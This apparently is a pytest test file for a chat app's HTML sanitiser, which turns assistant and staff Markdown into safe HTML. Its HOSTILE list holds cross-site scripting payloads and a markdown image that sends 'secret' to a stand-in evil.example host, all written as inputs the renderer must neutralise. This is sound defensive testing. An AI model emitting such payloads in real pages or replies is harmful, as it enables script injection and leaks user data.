from __future__ import annotations

import re

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from webapp.domain import Author
from webapp.routes.rendering import TAGS, link_marks, to_html

MARKDOWN_AUTHORS = (Author.ASSISTANT, Author.STAFF)
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    "[x](/api/auth/logout)",
    "![x](https://evil.example/?q=secret)",
    "[![x](https://evil.example/a.png)](https://ok.example)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '<https://ok.example/"onmouseover=alert(1)>',
    "**_[`<svg/onload=alert(1)>`](javascript:alert(1))_**",
    "> - 1. [x](javascript:alert(1))\n>   <iframe src=//evil.example>",
    "[1]: javascript:alert(1)\n\n[1]",
    "<a href='https://ok.example' onclick='alert(1)'>x</a>",
    "<style>*{display:none}</style><base href=//evil.example>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "|<script>|x|\n|-|-|\n|<img src=x onerror=alert(1)>|y|",
]


def assert_harmless(html: str) -> None:
    for tag in BeautifulSoup(html, "lxml").select("*"):
        if tag.name in ("html", "body"):
            continue
        assert tag.name in TAGS
        assert set(tag.attrs) <= ({"href", "rel", "class"} if tag.name == "a" else set())
        if "href" in tag.attrs:
            assert re.match(r"https?://|mailto:|#source-\d", str(tag["href"]))


@pytest.mark.parametrize("author", list(Author))
@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_become_harmless(words: str, author: Author) -> None:
    assert_harmless(to_html(words, author))


@given(st.text(alphabet="<>[]()!*_`#|-&;:/\"'= \nabjs1\u200b\u202e", max_size=80), st.sampled_from(Author))
def test_no_words_at_all_pass_the_allow_list(words: str, author: Author) -> None:
    assert_harmless(to_html(words, author))


@pytest.mark.parametrize("author", list(Author))
def test_what_cannot_be_seen_is_taken_out(author: Author) -> None:
    assert to_html("\u200b" * 100_000, author) == ""
    html = to_html("a\u202eb\u2066c\u00add\x1b[31m\x00\ufeff\U000e0041", author)
    assert not re.search("[\x00\x1b\u00ad\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\U000e0041]", html)
    assert "abcd[31m" in BeautifulSoup(html, "lxml").get_text()


def test_entities_do_not_bring_the_invisible_back() -> None:
    assert to_html("a&#8203;b&ZeroWidthSpace;c&#x202E;d", Author.ASSISTANT) == "<p>abcd</p>\n"


@pytest.mark.parametrize("author", MARKDOWN_AUTHORS)
def test_markdown_becomes_html(author: Author) -> None:
    html = to_html("# Titre\n\n**gras** *fin*\nligne\n\n1. un\n2. deux\n\n> dit\n\n|a|b|\n|-|-|\n|1|2|", author)
    blocks = ("<p><strong>Titre</strong></p>", "<ol>", "<li>un</li>", "<blockquote>", "<td>1</td>")
    for expected in ("<strong>gras</strong>", "<em>fin</em><br>", *blocks):
        assert expected in html


def test_links_are_marked_as_strangers() -> None:
    html = to_html("[ici](https://ok.example/a?b=1&c=2) <mailto:a@ok.example>", Author.ASSISTANT)
    assert html.count('rel="noopener noreferrer nofollow ugc"') == 2
    assert 'href="https://ok.example/a?b=1&amp;c=2"' in html


def test_a_customer_is_shown_as_they_wrote() -> None:
    assert to_html("**a** <b>\r\n[1] & c", Author.CLIENT) == "**a** &lt;b&gt;<br>[1] &amp; c"


def test_words_too_long_for_markdown_are_shown_plain() -> None:
    assert "<strong>" not in to_html("**a** " * 10_000, Author.ASSISTANT)


def test_a_picture_leaves_its_words() -> None:
    assert to_html("![une porte](https://evil.example/p.png)", Author.ASSISTANT) == "<p>une porte</p>\n"


def test_marks_point_at_the_chips_of_their_own_message() -> None:
    html = link_marks(to_html("Quatorze jours [1][2].", Author.ASSISTANT), "7", [1])
    assert 'href="#source-7-1"' in html
    assert "[2]." in html
    assert "source-2" not in html


def test_a_mark_with_an_address_stays_a_link() -> None:
    assert 'href="https://ok.example"' in to_html("[1](https://ok.example)", Author.ASSISTANT)


def test_marks_in_code_stay_code() -> None:
    assert to_html("`t[1]`", Author.ASSISTANT) == "<p><code>t[1]</code></p>\n"


def test_french_signs_stay_with_their_words_but_in_code() -> None:
    html = to_html("Est-ce « prêt » ? Oui : `a ? b : c`", Author.ASSISTANT)
    assert "Est-ce «\xa0prêt\xa0»\u202f? Oui\xa0: <code>a ? b : c</code>" in html.replace("&nbsp;", "\xa0")
